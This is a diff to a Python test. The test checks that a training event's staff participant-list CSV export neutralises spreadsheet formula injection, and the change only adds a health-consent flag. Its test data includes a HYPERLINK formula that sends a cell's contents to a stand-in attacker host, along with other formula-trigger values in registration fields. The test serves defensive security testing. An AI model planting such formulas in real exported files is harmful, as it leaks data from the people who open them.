@@ -53,7 +53,8 @@ def test_the_participant_list_guards_the_staff_question_and_every_answer(client,
     question = '=HYPERLINK("http://evil.example/?leak="&B2;"Details")'
     training = make_training(free_question=question)
     registrations.register(training.id, "@Ana", "ana@example.org", "+Wohnen eG", "-Leitung",
-                           json.dumps({"accessibility": "\tRollstuhl", "dietary": "\r=1+1", "free_answer": "=2+2"}))
+                           json.dumps({"accessibility": "\tRollstuhl", "dietary": "\r=1+1", "free_answer": "=2+2"}),
+                           health_consent=True)
     login(make_user(Role.STAFF))
     rows = rows_of(client.get(f"/events/staff/{training.id}/participants.csv").get_data())
     assert rows[0][8] == "'" + question
